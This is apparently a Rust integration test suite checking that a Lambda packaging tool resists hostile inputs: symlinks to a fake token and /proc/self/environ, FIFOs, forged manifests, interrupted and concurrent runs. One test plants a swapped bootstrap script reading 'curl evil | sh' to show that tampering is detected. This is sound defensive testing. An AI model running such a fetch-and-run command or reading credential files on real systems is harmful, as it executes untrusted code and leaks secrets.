//! Hostile and unlucky inputs around the lambda dir and includes, through the real binary: a run
//! writes only inside its lambda dir, replaces all of its outputs and records or none, never packs
//! what it should not, and never hangs on a file it did not write.

mod support;

use std::os::unix::fs::symlink;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::Duration;

use support::*;

/// A copy of the tiny workspace (alpha: a function zipped with `static/`; beta: an extension
/// binary) in its own temp folder, built with plain cargo into a target dir of its own.
struct Workspace {
    _temp: tempfile::TempDir,
    root: PathBuf,
    target: PathBuf,
}

impl Workspace {
    fn new() -> Workspace {
        let temp = tempfile::tempdir().unwrap();
        let root = temp.path().join("ws");
        copy_tree(&tiny(), &root);
        let target = temp.path().join("target");
        Workspace {
            _temp: temp,
            root,
            target,
        }
    }

    fn build(&self) -> Command {
        let mut cmd = lambda_build(&self.root);
        cmd.env("CARGO_TARGET_DIR", &self.target).args(["--compiler", "cargo"]);
        cmd
    }

    fn alpha_static(&self) -> PathBuf {
        self.root.join("alpha/static")
    }
}

#[test]
fn an_include_symlink_leading_outside_the_workspace_is_refused_before_compiling() {
    let ws = Workspace::new();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("token"), "ghp_secret").unwrap();
    symlink(outside.path().join("token"), ws.alpha_static().join("token")).unwrap();
    symlink("/proc/self/environ", ws.alpha_static().join("environ")).unwrap();
    let run = run(&mut ws.build());
    assert_usage(&run, &["include", "outside the workspace", "accepted:"]);
    assert!(!ws.target.exists(), "nothing may compile on bad input");
    assert!(!run.stderr.contains("ghp_secret"));
}

#[test]
fn an_include_symlink_inside_the_workspace_is_stored_as_the_file_it_leads_to() {
    let ws = Workspace::new();
    std::fs::write(ws.root.join("NOTICE"), "notice").unwrap();
    symlink("../../NOTICE", ws.alpha_static().join("NOTICE")).unwrap();
    let lambda = ws.root.join("out");
    run_ok(ws.build().arg("--lambda-dir").arg(&lambda));
    let zip = lambda.join("alpha/bootstrap.zip");
    assert_eq!(zip_file(&zip, "static/NOTICE"), b"notice");
    assert!(zip_entries(&zip).contains(&("static/NOTICE".into(), 0o644)));
}

#[test]
fn a_fifo_in_an_include_is_a_usage_error_not_a_hang() {
    let ws = Workspace::new();
    let fifo = ws.alpha_static().join("pipe");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let run = run_bounded(&mut ws.build(), Duration::from_secs(120));
    assert_usage(&run, &["pipe", "is a FIFO", "accepted:"]);
    // The same FIFO named directly.
    let run = run_bounded(
        ws.build().args(["--include", "alpha/static/pipe"]),
        Duration::from_secs(120),
    );
    assert_usage(&run, &["is a FIFO"]);
    assert!(!ws.target.exists());
}

#[test]
fn a_huge_sparse_include_fails_on_the_lambda_limit_without_reading_it() {
    let ws = Workspace::new();
    // Larger than this machine's memory: reading it whole would abort the process.
    let big = std::fs::File::create(ws.alpha_static().join("big.bin")).unwrap();
    big.set_len(64 << 30).unwrap();
    let lambda = ws.root.join("out");
    let run = run_bounded(ws.build().arg("--lambda-dir").arg(&lambda), Duration::from_secs(300));
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("250 MB"), "{}", run.stderr);
    assert!(!lambda.join("alpha").exists() && !lambda.join("manifest.json").exists());
}

#[test]
fn a_lambda_dir_inside_an_include_is_never_packed() {
    let ws = Workspace::new();
    let args = ["--lambda-dir", "alpha/static/out"];
    run_ok(ws.build().args(args));
    let zip = ws.alpha_static().join("out/alpha/bootstrap.zip");
    let first = std::fs::read(&zip).unwrap();
    run_ok(ws.build().args(args));
    assert_eq!(std::fs::read(&zip).unwrap(), first, "the zip changed on a rebuild");
    let names: Vec<String> = zip_entries(&zip).into_iter().map(|(n, _)| n).collect();
    assert_eq!(names, ["bootstrap", "static/config.json"]);
}

#[test]
fn files_lambda_build_did_not_write_are_never_replaced_in_a_named_lambda_dir() {
    let ws = Workspace::new();
    let mine = ws.root.join("mine");
    std::fs::create_dir_all(mine.join("alpha")).unwrap();
    std::fs::write(mine.join("manifest.json"), "{\"mine\": true}").unwrap();
    std::fs::write(mine.join("alpha/bootstrap.zip"), "my own zip").unwrap();
    let before = contents(&mine);
    let run = run(ws.build().arg("--lambda-dir").arg(&mine));
    assert_usage(
        &run,
        &[
            "lambda dir",
            "from flag --lambda-dir",
            "alpha/bootstrap.zip",
            "accepted:",
        ],
    );
    assert_eq!(contents(&mine), before);
    assert!(!ws.target.exists());

    // The same through the environment names the variable.
    let run = support::run(ws.build().env("LAMBDA_BUILD_LAMBDA_DIR", &mine));
    assert_usage(&run, &["env LAMBDA_BUILD_LAMBDA_DIR"]);
    assert_eq!(contents(&mine), before);
}

#[test]
fn a_symlink_in_the_lambda_dir_is_not_written_through() {
    let ws = Workspace::new();
    let lambda = ws.root.join("out");
    let elsewhere = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(&lambda).unwrap();
    symlink(elsewhere.path(), lambda.join("alpha")).unwrap();
    let run = run(ws.build().arg("--lambda-dir").arg(&lambda));
    assert_usage(&run, &["alpha", "is a symlink"]);
    assert_eq!(std::fs::read_dir(elsewhere.path()).unwrap().count(), 0);
}

#[test]
fn the_default_lambda_dir_replaces_foreign_files_with_a_warning() {
    let ws = Workspace::new();
    let lambda = ws.target.join("lambda");
    std::fs::create_dir_all(lambda.join("alpha")).unwrap();
    std::fs::write(lambda.join("alpha/bootstrap.zip"), "cargo-lambda's zip").unwrap();
    let run = run_ok(&mut ws.build());
    assert!(
        run.stderr.contains("warning: replacing") && run.stderr.contains("did not write"),
        "{}",
        run.stderr
    );
    assert_eq!(sha256sum_check(&lambda), 2);
}

#[test]
fn a_failed_rebuild_leaves_every_output_and_record_as_it_was() {
    let ws = Workspace::new();
    let lambda = ws.root.join("out");
    let both = ["--output-format", "binary,zip", "--lambda-dir"];
    run_ok(ws.build().args(both).arg(&lambda));
    let before = contents(&lambda);
    // A release build makes another binary, and an include over Lambda's limit fails the zip.
    let big = std::fs::File::create(ws.alpha_static().join("big.bin")).unwrap();
    big.set_len(260 << 20).unwrap();
    let run = run(ws.build().args(both).arg(&lambda).arg("--release"));
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("250 MB"), "{}", run.stderr);
    assert_eq!(contents(&lambda), before, "a failed run changed the lambda dir");
    assert_eq!(sha256sum_check(&lambda), 4);
}

#[test]
fn concurrent_runs_on_one_lambda_dir_leave_records_that_match() {
    let ws = Workspace::new();
    // 12 MiB of incompressible data: zipping it keeps the first run busy after it has written
    // its binaries, which is when the second run writes other bytes to the same paths.
    let mut state = 7u64;
    let noise: Vec<u8> = (0..12 << 20)
        .map(|_| {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (state >> 56) as u8
        })
        .collect();
    std::fs::create_dir_all(ws.root.join("big")).unwrap();
    std::fs::write(ws.root.join("big/noise.bin"), noise).unwrap();
    let lambda = ws.root.join("out");
    // One target dir per run, each compiled once, so cargo's own lock does not keep the two runs
    // apart: they race on packaging. The slow run writes debug binaries and big zips; the quick
    // one release binaries to the same paths.
    let slow = || {
        let mut cmd = ws.build();
        cmd.env("CARGO_TARGET_DIR", ws.target.join("slow"))
            .args(["--output-format", "binary,zip", "--include", "big", "--lambda-dir"])
            .arg(&lambda);
        cmd
    };
    let quick = || {
        let mut cmd = ws.build();
        cmd.env("CARGO_TARGET_DIR", ws.target.join("quick"))
            .args(["--release", "--output-format", "binary", "--lambda-dir"])
            .arg(&lambda);
        cmd
    };
    run_ok(&mut slow());
    run_ok(&mut quick());
    for round in 0..8 {
        let first = slow().stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        std::thread::sleep(Duration::from_millis(150));
        let second = quick().stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        for child in [first, second] {
            let out = child.wait_with_output().unwrap();
            assert!(
                out.status.success(),
                "round {round}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        let checked = sha256sum_check(&lambda);
        assert!(checked == 2 || checked == 4, "round {round}: {checked} files");
        for artifact in manifest(&lambda)["artifacts"].as_array().unwrap() {
            let bytes = std::fs::read(lambda.join(artifact["path"].as_str().unwrap())).unwrap();
            let digest = lambda_build::record::hex(&<sha2::Sha256 as sha2::Digest>::digest(&bytes));
            assert_eq!(
                digest,
                artifact["sha256"].as_str().unwrap(),
                "round {round}: manifest.json lies"
            );
        }
        let leftovers: Vec<_> = contents(&lambda)
            .into_iter()
            .filter(|(name, _)| name.ends_with(".tmp"))
            .collect();
        assert!(leftovers.is_empty(), "round {round}: temporary files left");
    }
}

#[test]
fn a_forged_manifest_does_not_get_someone_elses_zip_kept() {
    let ws = Workspace::new();
    let lambda = ws.root.join("out");
    run_ok(ws.build().arg("--lambda-dir").arg(&lambda));
    let zip = lambda.join("alpha/bootstrap.zip");
    let ours = std::fs::read(&zip).unwrap();
    // Someone swaps the zip and edits the records to match it, keeping the inputs digest.
    let theirs = {
        let mut archive = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        archive
            .start_file("bootstrap", zip::write::SimpleFileOptions::default())
            .unwrap();
        std::io::Write::write_all(&mut archive, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
        archive.finish().unwrap().into_inner()
    };
    std::fs::write(&zip, &theirs).unwrap();
    let digest = <sha2::Sha256 as sha2::Digest>::digest(&theirs);
    let mut manifest = manifest(&lambda);
    for artifact in manifest["artifacts"].as_array_mut().unwrap() {
        if artifact["path"] == "alpha/bootstrap.zip" {
            artifact["sha256"] = lambda_build::record::hex(&digest).into();
            artifact["size"] = theirs.len().into();
        }
    }
    std::fs::write(lambda.join("manifest.json"), manifest.to_string()).unwrap();

    let again = run_ok(ws.build().arg("--lambda-dir").arg(&lambda));
    assert!(again.stderr.contains("wrote alpha/bootstrap.zip"), "{}", again.stderr);
    assert_eq!(std::fs::read(&zip).unwrap(), ours, "the swapped zip was kept");
    sha256sum_check(&lambda);
}

/// Sets a `chattr` attribute (`+i`, `+a`) and clears it when dropped, so a failed assertion never
/// leaves an undeletable temp folder; `None` where attributes cannot be set (not root, or a
/// file system without them).
struct Attribute(PathBuf, String);

impl Attribute {
    fn set(flag: &str, path: &std::path::Path) -> Option<Attribute> {
        let ok = Command::new("chattr")
            .arg(flag)
            .arg(path)
            .status()
            .is_ok_and(|s| s.success());
        have_tool("chattr (as root, on a file system with attributes)", ok)
            .then(|| Attribute(path.to_path_buf(), flag.replace('+', "-")))
    }
}

impl Drop for Attribute {
    fn drop(&mut self) {
        let _ = Command::new("chattr").arg(&self.1).arg(&self.0).status();
    }
}

#[test]
fn an_immutable_or_append_only_record_zip_or_folder_stops_a_rebuild_before_it_changes_anything() {
    let ws = Workspace::new();
    let lambda = ws.root.join("ld");
    run_ok(ws.build().arg("--lambda-dir").arg(&lambda));
    let before = contents(&lambda);
    for (flag, path, what) in [
        ("+i", lambda.join("SHA256SUMS"), "immutable (chattr +i)"),
        ("+i", lambda.join("manifest.json"), "immutable (chattr +i)"),
        ("+i", lambda.join("alpha/bootstrap.zip"), "immutable (chattr +i)"),
        ("+a", lambda.clone(), "append-only (chattr +a)"),
        ("+a", lambda.join("alpha"), "append-only (chattr +a)"),
    ] {
        let Some(undo) = Attribute::set(flag, &path) else {
            return;
        };
        let run = run(ws
            .build()
            .arg("--lambda-dir")
            .arg(&lambda)
            .env("SOURCE_DATE_EPOCH", "1700000000"));
        drop(undo);
        assert_usage(&run, &[&path.display().to_string(), what, "accepted:"]);
        assert_eq!(
            contents(&lambda),
            before,
            "{flag} {}: the folder changed",
            path.display()
        );
        sha256sum_check(&lambda);
    }
}

/// The staged, backup and journal files lambda-build leaves only when killed outright.
fn strays(dir: &std::path::Path) -> Vec<String> {
    files_below(dir)
        .into_iter()
        .filter(|f| f.contains(".lambda-build-") || f.ends_with(".tmp"))
        .collect()
}

/// What a lambda dir must hold once a run is over: exactly what its records list, and them.
fn assert_exactly_recorded(lambda: &std::path::Path) {
    let mut expected = recorded_paths(lambda);
    expected.extend(["SHA256SUMS".to_owned(), "manifest.json".to_owned()]);
    expected.sort();
    assert_eq!(files_below(lambda), expected);
    sha256sum_check(lambda);
}

#[test]
fn runs_interrupted_at_twenty_points_leave_old_or_new_records_and_nothing_staged() {
    let ws = Workspace::new();
    // An include large enough that packaging and renaming take a while to be hit in.
    let mut state: u64 = 0x2545_f491_4f6c_dd1d;
    let noise: Vec<u8> = (0..12 << 20)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state as u8
        })
        .collect();
    std::fs::write(ws.alpha_static().join("noise.bin"), noise).unwrap();
    let lambda = ws.root.join("ld");
    let build = |epoch: usize| {
        let mut cmd = ws.build();
        cmd.arg("--lambda-dir")
            .arg(&lambda)
            .env("SOURCE_DATE_EPOCH", (1_600_000_000 + epoch).to_string());
        cmd
    };
    run_ok(&mut build(0));
    let started = std::time::Instant::now();
    run_ok(&mut build(1));
    let whole = started.elapsed();
    for point in 0..20u32 {
        let signal = ["TERM", "INT", "TERM", "KILL"][point as usize % 4];
        let child = build(2 + point as usize)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::sleep(whole * point / 20);
        // Only the child this test started, by its id (kill(2) with a positive pid).
        let number = match signal {
            "TERM" => libc::SIGTERM,
            "INT" => libc::SIGINT,
            _ => libc::SIGKILL,
        };
        let pid = libc::pid_t::try_from(child.id()).expect("a pid");
        assert!(pid > 1, "never a broadcast");
        // SAFETY: kill(2) takes no pointers.
        unsafe {
            libc::kill(pid, number);
        }
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        let code = out.status.code();
        if signal == "KILL" {
            // What it left is the next run's to clean up, under the lock, before anything else.
            run_ok(&mut build(100 + point as usize));
            assert_exactly_recorded(&lambda);
            continue;
        }
        let conventional = if signal == "INT" { 130 } else { 143 };
        assert!(
            matches!(code, None | Some(0)) || code == Some(conventional),
            "SIG{signal} at {point}/20: exit {code:?}\n{stderr}"
        );
        assert_eq!(
            strays(&lambda),
            Vec::<String>::new(),
            "SIG{signal} at {point}/20\n{stderr}"
        );
        if lambda.join("manifest.json").exists() {
            assert_exactly_recorded(&lambda);
        }
    }
    run_ok(&mut build(99));
    assert_exactly_recorded(&lambda);
}

#[test]
fn an_empty_shard_and_a_merge_of_empty_shards_write_records_that_verify() {
    let ws = Workspace::new();
    let (one, two) = (ws.root.join("shard-3"), ws.root.join("shard-4"));
    // The tiny workspace has two binaries: shards 3/4 and 4/4 hold none.
    run_ok(ws.build().args(["--shard", "3/4", "--lambda-dir"]).arg(&one));
    run_ok(ws.build().args(["--shard", "4/4", "--lambda-dir"]).arg(&two));
    for shard in [&one, &two] {
        assert_eq!(recorded_paths(shard), Vec::<String>::new());
        assert_eq!(sha256sum_check(shard), 1, "the one line vouches for manifest.json");
    }
    let out = ws.root.join("merged");
    run_ok(
        lambda_build(&ws.root)
            .arg("merge")
            .arg(&one)
            .arg(&two)
            .arg("--out")
            .arg(&out),
    );
    assert_eq!(sha256sum_check(&out), 1);
    assert_exactly_recorded(&out);
    // A tampered manifest of an empty shard no longer matches its line.
    std::fs::write(
        one.join("manifest.json"),
        std::fs::read_to_string(one.join("manifest.json")).unwrap() + " ",
    )
    .unwrap();
    let run = run(lambda_build(&ws.root)
        .arg("merge")
        .arg(&one)
        .arg("--out")
        .arg(ws.root.join("merged-2")));
    assert_usage(&run, &["SHA256SUMS", "does not match manifest.json"]);
}

/// `flock -o DIR sleep 600` in its own process group: the flock process holds the lock (the
/// sleep does not inherit it); returns once the lock is taken.
fn hold_with_flock(dir: &std::path::Path) -> std::process::Child {
    use std::os::unix::process::CommandExt;
    let mut holder = Command::new("flock")
        .arg("-o")
        .arg(dir)
        .args(["sleep", "600"])
        .process_group(0)
        .spawn()
        .expect("flock");
    for _ in 0..500 {
        let free = Command::new("flock")
            .args(["-n"])
            .arg(dir)
            .arg("true")
            .status()
            .unwrap()
            .success();
        if !free {
            return holder;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    kill_group(&holder, libc::SIGKILL);
    let _ = holder.wait();
    panic!("flock never took the lock");
}

/// Signals the process group this test started (it leads it: `process_group(0)`), by its id,
/// with the system call itself: procps-ng 4.0's `kill -STOP -PGID` signalled every process.
fn kill_group(child: &std::process::Child, signal: libc::c_int) {
    let group = libc::pid_t::try_from(child.id()).expect("a pid");
    assert!(group > 1, "never a broadcast");
    // SAFETY: kill(2) takes no pointers; a negative id names exactly that process group.
    unsafe {
        libc::kill(-group, signal);
    }
}

#[test]
fn a_stopped_lock_holder_is_named_and_given_up_on_and_a_holder_that_dies_releases_it() {
    let ws = Workspace::new();
    let lambda = ws.root.join("ld");
    std::fs::create_dir(&lambda).unwrap();
    // Someone else's file: once the waiter has the lock it stops there, before compiling.
    std::fs::write(lambda.join("SHA256SUMS"), "not lambda-build's").unwrap();
    let mut holder = hold_with_flock(&lambda);
    kill_group(&holder, libc::SIGSTOP);
    let gave_up = run_bounded(
        ws.build()
            .arg("--lambda-dir")
            .arg(&lambda)
            .env("LAMBDA_BUILD_LOCK_TIMEOUT", "2"),
        Duration::from_secs(120),
    );
    let pid = format!("held by pid {} (flock)", holder.id());
    assert_eq!(gave_up.code, 1, "{}", gave_up.stderr);
    assert!(
        gave_up.stderr.contains("waiting for the lock on the lambda dir"),
        "{}",
        gave_up.stderr
    );
    let error = gave_up
        .stderr
        .lines()
        .find(|l| l.starts_with("error: "))
        .unwrap_or_default();
    for needle in [
        "gave up waiting",
        &pid,
        "env LAMBDA_BUILD_LOCK_TIMEOUT",
        "--lock-timeout",
    ] {
        assert!(error.contains(needle), "{error:?} lacks {needle:?}");
    }
    assert!(!ws.target.exists(), "nothing compiles while waiting");
    // A waiter with time to spare gets the lock once the holder dies.
    let waiter = ws
        .build()
        .arg("--lambda-dir")
        .arg(&lambda)
        .env("LAMBDA_BUILD_LOCK_TIMEOUT", "120")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    kill_group(&holder, libc::SIGKILL);
    let _ = holder.wait();
    let out = waiter.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("has no manifest.json of lambda-build's"), "{stderr}");
}
